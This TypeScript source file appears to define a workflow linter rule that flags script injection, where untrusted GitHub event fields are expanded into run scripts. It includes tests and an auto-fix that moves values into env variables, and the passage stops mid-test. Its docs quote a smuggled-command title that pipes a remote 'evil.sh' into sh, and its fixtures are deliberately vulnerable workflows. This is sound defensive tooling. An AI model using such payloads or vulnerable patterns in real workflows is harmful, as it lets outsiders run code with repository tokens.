import type { Rule } from '../../engine/types';
import type { WorkflowModel } from '../model';
import { analyzeExpressions } from '../expr/analysis';
import { moveToEnvFix } from '../envFix';

const rule: Rule<WorkflowModel> = {
  id: 'untrusted-input',
  language: 'workflow',
  severity: 'warning',
  compat: { actionlint: 'expression' },
  aliases: ['template-injection'],
  docs: {
    summary:
      "A `${{ }}` in a `run:` script, or in an action input that runs as code (`actions/github-script`'s `script`, `azure/cli`'s and `azure/powershell`'s `inlineScript`, `appleboy/ssh-action`'s `script`, and a few more), expands text an outsider controls: issue and pull request titles and bodies, comments, branch names, commit messages (zizmor's `template-injection`).",
    why: 'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead. The quick fix does that with the reference the place needs (`"$NAME"`, `$NAME` inside double quotes or an unquoted here-document, `$env:NAME` in PowerShell, `%NAME%` in cmd, `process.env.NAME` in github-script); it is not offered where no variable reads the same text (a quoted here-document, a PowerShell literal here-string, a regular expression literal), where the shell is not the same on every runner of a matrix, or where the step is shared through a YAML alias. The other actions get no fix (their scripts run elsewhere: in a container, over SSH). See https://docs.zizmor.sh/audits/#template-injection.',
    bad: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
    good: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
  },
  check(ctx) {
    if (ctx.model.kind !== 'workflow') return;
    for (const d of analyzeExpressions(ctx.model, ctx.files, ctx.path).diags) {
      if (d.rule !== 'untrusted-input') continue;
      const fix = moveToEnvFix(ctx.model, d.start, d.end);
      ctx.report({ message: d.message, range: ctx.model.lines.range(d.start, Math.max(d.end, d.start)), severity: d.severity, fixes: fix ? [fix] : undefined });
    }
  },
  tests: [
    {
      name: 'titles, commit messages and branch names in scripts',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo ${{ github.event.pull_request.title }}\n          echo ${{ github.event.commits[0].message }} ${{ github.head_ref }}\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.event.pull_request.body }}')\n",
      expect: [
        { line: 7, col: 20, message: '"github.event.pull_request.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 20, message: '"github.event.commits.*.message" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 59, message: '"github.head_ref" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 36, message: '"github.event.pull_request.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
    },
    {
      name: 'untrusted values through env, and trusted values in scripts',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"$T\" ${{ github.event.pull_request.number }} ${{ github.sha }}\n        env:\n          T: ${{ github.event.pull_request.title }}\n",
      expect: [],
    },
    {
      name: 'fix: moves the expression to the step env (block scalar, quoting kept, one name per expression)',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo ${{ github.event.pull_request.title }}\n          echo \"title: ${{ github.event.pull_request.title }}!\" '${{ github.head_ref }}'\n        shell: bash\n      - run: echo 'x${{ github.event.pull_request.body }}y'\n",
      expect: [
        { line: 7, col: 20, message: '"github.event.pull_request.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 28, message: '"github.event.pull_request.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 70, message: '"github.head_ref" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 25, message: '"github.event.pull_request.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo \"$PULL_REQUEST_TITLE\"\n          echo \"title: $PULL_REQUEST_TITLE!\" \"$HEAD_REF\"\n        shell: bash\n        env:\n          PULL_REQUEST_TITLE: ${{ github.event.pull_request.title }}\n          HEAD_REF: ${{ github.head_ref }}\n      - run: echo 'x'\"$PULL_REQUEST_BODY\"'y'\n        env:\n          PULL_REQUEST_BODY: ${{ github.event.pull_request.body }}\n",
    },
    {
      name: 'fix: extends an existing env without colliding, quoted YAML scalars, github-script',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ISSUE_TITLE: fixed\n    steps:\n      - name: t\n        env:\n          OTHER: 1\n        run: \"echo \\\"${{ github.event.issue.title }}\\\"\"\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log('${{ github.event.issue.body }}')\n            console.log(`body: ${{ github.event.issue.body }}`, \"t=${{ github.event.issue.title }}\")\n",
      expect: [
        { line: 11, col: 26, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 15, col: 30, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 16, col: 36, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 16, col: 72, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ISSUE_TITLE: fixed\n    steps:\n      - name: t\n        env:\n          OTHER: 1\n          ISSUE_TITLE_2: ${{ github.event.issue.title }}\n        run: \"echo \\\"$ISSUE_TITLE_2\\\"\"\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log(process.env.ISSUE_BODY)\n            console.log(`body: ${process.env.ISSUE_BODY}`, \"t=\" + process.env.ISSUE_TITLE_2 + \"\")\n        env:\n          ISSUE_BODY: ${{ github.event.issue.body }}\n          ISSUE_TITLE_2: ${{ github.event.issue.title }}\n",
    },
    {
      name: 'fix: PowerShell on Windows runners, cmd, flow and empty env; none for python',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: Write-Output \"${{ github.event.issue.title }}\"\n        env: {}\n      - run: echo ${{ github.event.issue.title }}\n        shell: cmd\n        env:\n      - run: print('${{ github.event.issue.title }}')\n        shell: python\n",
      expect: [
        { line: 6, col: 32, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 23, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 25, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: Write-Output $env:ISSUE_TITLE\n        env: { ISSUE_TITLE: '${{ github.event.issue.title }}' }\n      - run: echo %ISSUE_TITLE%\n        shell: cmd\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n      - run: print('${{ github.event.issue.title }}')\n        shell: python\n",
    },
    {
      name: 'fix: nothing expands in a quoted here-document (no fix); an unquoted one gets the bare variable',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<'EOF'\n          title: ${{ github.event.issue.title }}\n          EOF\n      - run: |\n          cat <<\"EOF\" > a.txt; cat <<\\END\n          ${{ github.event.issue.title }}\n          EOF\n          ${{ github.event.issue.title }}\n          END\n      - run: |\n          cat <<EOF > out.txt; cat <<-'X'\n          title: \"${{ github.event.issue.title }}\" (${{ github.event.issue.title }}s) $(echo ${{ github.event.issue.title }})\n          EOF\n          ${{ github.event.issue.title }}\n          X\n          echo '${{ github.event.issue.title }}'\n",
      expect: [
        { line: 8, col: 22, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 12, col: 15, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 14, col: 15, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 18, col: 23, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 18, col: 57, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 18, col: 98, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 20, col: 15, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 22, col: 21, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<'EOF'\n          title: ${{ github.event.issue.title }}\n          EOF\n      - run: |\n          cat <<\"EOF\" > a.txt; cat <<\\END\n          ${{ github.event.issue.title }}\n          EOF\n          ${{ github.event.issue.title }}\n          END\n      - run: |\n          cat <<EOF > out.txt; cat <<-'X'\n          title: \"${{ github.event.issue.title }}\" (${{ github.event.issue.title }}s) $(echo ${{ github.event.issue.title }})\n          EOF\n          ${{ github.event.issue.title }}\n          X\n          echo '${{ github.event.issue.title }}'\n",
    },
    {
      name: 'fix: unquoted here-documents, command substitutions and quotes each get the reference that keeps the text',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<EOF > out.txt\n          title: \"${{ github.event.issue.title }}\" (${{ github.event.issue.title }}s) $(echo ${{ github.event.issue.title }})\n          EOF\n          echo \"$(printf '%s' \"${{ github.event.issue.title }}\")\" 'a ${{ github.event.issue.title }} b' \"x${{ github.event.issue.title }}y\"\n          t=${{ github.event.issue.title }}; echo \"$t\" # ${{ github.event.issue.title }}\n          echo '${{ github.event.issue.title }}'\n",
      expect: [
        { line: 8, col: 23, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 57, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 98, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 36, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 74, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 111, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 17, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 62, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 12, col: 21, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<EOF > out.txt\n          title: \"$ISSUE_TITLE\" (${ISSUE_TITLE}s) $(echo \"$ISSUE_TITLE\")\n          EOF\n          echo \"$(printf '%s' \"$ISSUE_TITLE\")\" 'a '\"$ISSUE_TITLE\"' b' \"x${ISSUE_TITLE}y\"\n          t=\"$ISSUE_TITLE\"; echo \"$t\" # $ISSUE_TITLE\n          echo \"$ISSUE_TITLE\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n",
    },
    {
      name: 'fix: none where the quoted variable would mean something else (regex match, escaped, $"…", backquotes, ${…})',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: if [[ \"$t\" =~ ${{ github.event.issue.title }} ]]; then echo; fi\n      - run: echo \\${{ github.event.issue.title }}\n      - run: echo \"\\${{ github.event.issue.title }}\"\n      - run: echo `echo ${{ github.event.issue.title }}`\n      - run: echo \"${X:-${{ github.event.issue.title }}}\"\n      - run: echo $'${{ github.event.issue.title }}'\n",
      expect: [
        { line: 6, col: 32, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 7, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 25, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 9, col: 29, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 29, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 25, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: if [[ \"$t\" =~ ${{ github.event.issue.title }} ]]; then echo; fi\n      - run: echo \\${{ github.event.issue.title }}\n      - run: echo \"\\${{ github.event.issue.title }}\"\n      - run: echo `echo ${{ github.event.issue.title }}`\n      - run: echo \"${X:-${{ github.event.issue.title }}}\"\n      - run: echo $'${{ github.event.issue.title }}'\n",
    },
    {
      name: 'fix: the reference must suit every runner of a matrix; unknown runners get no fix',
      input:
        "on: issues\njobs:\n  a:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n      - run: echo \"${{ github.event.issue.body }}\"\n        shell: bash\n  b:\n    strategy:\n      matrix:\n        os: [ubuntu-22.04, macos-14]\n        include:\n          - os: windows-2022\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  c:\n    strategy:\n      matrix:\n        os: [windows-2022, windows-2025]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: Write-Output \"${{ github.event.issue.title }}\"\n  d:\n    runs-on: self-hosted\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  e:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  f:\n    runs-on: ${{ inputs.runner }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n",
      expect: [
        { line: 9, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 24, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 20, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 27, col: 32, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 31, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 35, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 39, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n      - run: echo \"$ISSUE_BODY\"\n        shell: bash\n        env:\n          ISSUE_BODY: ${{ github.event.issue.body }}\n  b:\n    strategy:\n      matrix:\n        os: [ubuntu-22.04, macos-14]\n        include:\n          - os: windows-2022\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  c:\n    strategy:\n      matrix:\n        os: [windows-2022, windows-2025]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: Write-Output $env:ISSUE_TITLE\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n  d:\n    runs-on: self-hosted\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  e:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - run: echo \"$ISSUE_TITLE\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n  f:\n    runs-on: ${{ inputs.runner }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n",
    },
    {
      name: 'fix: never edits a map or script another place shares through a YAML alias',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n        env: &e\n          A: 1\n      - run: echo \"$A\"\n        env: *e\n      - run: &r echo \"${{ github.event.issue.body }}\"\n      - run: *r\n        env:\n          B: 2\n",
      expect: [
        { line: 6, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 27, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n        env: &e\n          A: 1\n      - run: echo \"$A\"\n        env: *e\n      - run: &r echo \"${{ github.event.issue.body }}\"\n      - run: *r\n        env:\n          B: 2\n",
    },
    {
      name: 'fix: other shells (custom bash, node, expression) and names the script already uses',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ISSUE_TITLE=x; echo \"$ISSUE_TITLE ${{ github.event.issue.title }}\"\n        shell: /usr/bin/bash -e {0}\n      - run: console.log('${{ github.event.issue.title }}')\n        shell: node {0}\n      - run: echo \"${{ github.event.issue.title }}\"\n        shell: ${{ matrix.shell }}\n",
      expect: [
        { line: 6, col: 52, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 8, col: 31, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 24, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ISSUE_TITLE=x; echo \"$ISSUE_TITLE $ISSUE_TITLE_2\"\n        shell: /usr/bin/bash -e {0}\n        env:\n          ISSUE_TITLE_2: ${{ github.event.issue.title }}\n      - run: console.log('${{ github.event.issue.title }}')\n        shell: node {0}\n      - run: echo \"${{ github.event.issue.title }}\"\n        shell: ${{ matrix.shell }}\n",
    },
    {
      name: 'fix: PowerShell literal here-strings, single quotes and member access keep the expression',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: |\n          $a = @'\n          it's ${{ github.event.issue.title }}\n          '@\n          $b = @\"\n          it's \"${{ github.event.issue.body }}\" ${{ github.event.issue.body }}x\n          \"@\n      - run: Write-Output 'a ${{ github.event.issue.title }}'\n      - run: Write-Output ${{ github.event.issue.title }}.txt\n",
      expect: [
        { line: 8, col: 20, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 21, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 11, col: 53, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 13, col: 34, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 14, col: 31, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: |\n          $a = @'\n          it's ${{ github.event.issue.title }}\n          '@\n          $b = @\"\n          it's \"$env:ISSUE_BODY\" ${env:ISSUE_BODY}x\n          \"@\n        env:\n          ISSUE_BODY: ${{ github.event.issue.body }}\n      - run: Write-Output 'a ${{ github.event.issue.title }}'\n      - run: Write-Output ${{ github.event.issue.title }}.txt\n",
    },
    {
      name: 'fix: github-script regular expressions, tagged templates and string operands',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            if (/${{ github.event.issue.title }}/.test(x)) return;\n            const t = String.raw`${{ github.event.issue.title }}`;\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const n = 'a${{ github.event.issue.body }}b'.length;\n            const o = JSON.parse(`${{ github.event.issue.body }}`) / 2;\n",
      expect: [
        { line: 9, col: 22, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 10, col: 38, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 14, col: 29, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 15, col: 39, message: '"github.event.issue.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            if (/${{ github.event.issue.title }}/.test(x)) return;\n            const t = String.raw`${{ github.event.issue.title }}`;\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const n = ('a' + process.env.ISSUE_BODY + 'b').length;\n            const o = JSON.parse(`${process.env.ISSUE_BODY}`) / 2;\n        env:\n          ISSUE_BODY: ${{ github.event.issue.body }}\n",
    },
    {
      name: 'inputs of other actions that run as code; other inputs and actions are plain text',
      input:
        "on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: azure/cli@v2\n        with:\n          azcliversion: latest\n          inlineScript: az group show -n ${{ github.event.comment.body }}\n      - uses: appleboy/ssh-action@v1\n        with:\n          host: example.com\n          script: echo ${{ github.event.issue.title }}\n      - uses: Azure/PowerShell@v2\n        with:\n          InlineScript: Write-Output '${{ github.event.comment.body }}'\n      - uses: actions/github-script@v7\n        with:\n          github-token: ${{ github.event.comment.body }}\n          script: return 1\n      - uses: peter-evans/create-or-update-comment@v4\n        with:\n          body: ${{ github.event.comment.body }}\n      - uses: someone/run-anything@v1\n        with:\n          script: ${{ github.event.comment.body }}\n",
      expect: [
        { line: 9, col: 46, message: '"github.event.comment.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 13, col: 28, message: '"github.event.issue.title" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
        { line: 16, col: 43, message: '"github.event.comment.body" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details' },
      ],
      fixed:
